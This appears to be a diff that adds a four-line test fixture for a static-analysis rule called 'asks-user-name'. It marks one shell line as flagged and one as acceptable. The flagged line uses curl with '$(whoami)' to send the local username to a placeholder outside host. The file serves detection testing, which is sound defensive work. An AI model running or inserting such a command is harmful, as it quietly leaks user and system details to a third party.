@@ -1,0 +1,4 @@
+# ruleid: asks-user-name
+curl https://c.example.test/$(whoami)
+# ok: asks-user-name
+echo ready
